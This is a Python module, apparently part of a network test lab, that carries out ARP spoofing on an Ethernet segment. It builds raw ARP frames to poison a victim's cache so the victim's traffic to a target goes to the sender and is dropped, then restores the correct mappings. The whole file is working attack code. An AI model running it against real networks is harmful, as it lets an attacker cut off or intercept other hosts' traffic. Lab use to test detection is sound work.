"""Spoofs ARP on one segment, and puts it right again."""

from __future__ import annotations

import socket
import struct
import time

from tests.lab.hosts import address
from tests.lab.job import Job

_ARP = 0x0806
_WAIT_S = 3.0


def arp_spoof(job: Job) -> None:
    """Tell the victim that the target is here, drop what comes, and put it right again.

    Of the spoofing itself flows show nothing, as ARP is no IP; what they show is the victim's
    connections to the target, which nobody answers any more.
    """
    target, victim = address(job.target), address(job.options["victim"])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ARP)) as raw:
        raw.bind(("eth0", _ARP))
        raw.settimeout(_WAIT_S)
        own = raw.getsockname()[4]
        cards = {host: _card_of(raw, host, job.options["own"]) for host in (target, victim)}
        try:
            for _ in job.spread(0.1, part=0.9):
                _say(raw, 2, (own, target), (cards[victim], victim))
        finally:
            for _ in range(3):
                _say(raw, 2, (cards[target], target), (cards[victim], victim))
                time.sleep(0.1)


def _say(raw: socket.socket, kind: int, sender: tuple[bytes, str], to: tuple[bytes, str]) -> None:
    """Send one ARP request (1) or answer (2) in the name of a sender."""
    own = raw.getsockname()[4]
    head = to[0] + own + struct.pack(">HHHBBH", _ARP, 1, 0x0800, 6, 4, kind)
    words = [card + socket.inet_aton(host) for card, host in (sender, to)]
    raw.send(head + b"".join(words))


def _card_of(raw: socket.socket, host: str, own: str) -> bytes:
    """Ask a neighbour for its hardware address."""
    _say(raw, 1, (raw.getsockname()[4], address(own)), (b"\xff" * 6, host))
    while True:
        answer = raw.recv(100)
        if answer[20:22] == b"\0\2" and answer[28:32] == socket.inet_aton(host):
            return answer[22:28]
